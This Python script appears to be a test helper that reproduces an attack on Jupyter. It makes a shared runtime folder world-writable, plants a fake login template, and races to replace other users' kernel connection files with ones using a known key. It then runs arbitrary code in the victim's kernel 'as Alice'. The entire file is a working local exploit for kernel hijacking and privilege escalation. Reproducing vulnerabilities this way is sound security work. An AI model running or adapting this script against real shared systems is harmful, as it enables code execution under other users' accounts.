"""Create RUN_DIR again, replace each connection file that appears there, and run CODE as Alice.

Print `planted`, wait for a line, and print what the kernel answers.
"""

# ruff: noqa: T201  printing is its answer

import json
import os
import time
from pathlib import Path
from typing import Any

from jupyter_client.blocking.client import BlockingKernelClient

KEY = "0" * 8
INFO: Any = {
    "transport": "tcp", "ip": "127.0.0.1", "shell_port": 45551, "iopub_port": 45552,
    "stdin_port": 45553, "control_port": 45554, "hb_port": 45555, "key": KEY,
    "signature_scheme": "hmac-sha256", "kernel_name": "",
}  # fmt: skip
runtime = Path(os.environ["RUN_DIR"], "runtime")
page = Path(os.environ["RUN_DIR"], "page", "templates")
for folder in (page, runtime):
    folder.mkdir(parents=True)
    for each in (folder, *folder.parents[:2]):
        if each.is_relative_to(os.environ["RUN_DIR"]):
            each.chmod(0o777)
(page / "login.html").write_text("planted page")
print("planted", flush=True)
deadline = time.monotonic() + 10
while time.monotonic() < deadline:
    for path in runtime.glob("kernel-*.json"):
        try:
            if path.owner() != "mallory":
                path.unlink()
                path.write_text(json.dumps(INFO))
        except OSError as error:
            print(error)
    time.sleep(0.002)
client = BlockingKernelClient()
client.load_connection_info(INFO)
client.start_channels()
try:
    client.wait_for_ready(timeout=10)
    client.execute_interactive(os.environ["CODE"], timeout=10)
except RuntimeError as error:
    print(error)
